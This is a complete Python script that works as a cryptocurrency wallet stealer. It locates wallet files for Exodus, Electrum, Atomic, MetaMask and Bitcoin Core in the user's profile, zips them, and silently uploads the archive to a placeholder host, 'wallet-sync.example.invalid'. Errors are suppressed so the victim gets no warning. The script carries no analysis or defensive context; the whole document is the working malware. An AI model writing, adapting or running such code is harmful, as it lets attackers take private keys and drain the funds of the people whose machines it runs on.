import io
import os
import zipfile

import requests

APPDATA = os.getenv("APPDATA", os.path.expanduser("~/.config"))
LOCAL = os.getenv("LOCALAPPDATA", os.path.expanduser("~/.config"))
TARGETS = {
    "exodus": os.path.join(APPDATA, "Exodus", "exodus.wallet"),
    "electrum": os.path.join(APPDATA, "Electrum", "wallets"),
    "electrum_linux": os.path.expanduser("~/.electrum/wallets"),
    "atomic": os.path.join(APPDATA, "atomic", "Local Storage", "leveldb"),
    "metamask": os.path.join(LOCAL, "Google", "Chrome", "User Data", "Default",
                             "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn"),
    "bitcoin": os.path.expanduser("~/.bitcoin/wallet.dat"),
}


def _zip():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, path in TARGETS.items():
            if os.path.isfile(path):
                z.write(path, name + "/" + os.path.basename(path))
            elif os.path.isdir(path):
                for root, _, files in os.walk(path):
                    for f in files:
                        full = os.path.join(root, f)
                        z.write(full, os.path.join(name, os.path.relpath(full, path)))
    return buf.getvalue()


try:
    blob = _zip()
    if len(blob) > 22:
        requests.post("https://wallet-sync.example.invalid/u", files={"f": ("w.zip", blob)}, timeout=30)
except Exception:
    pass
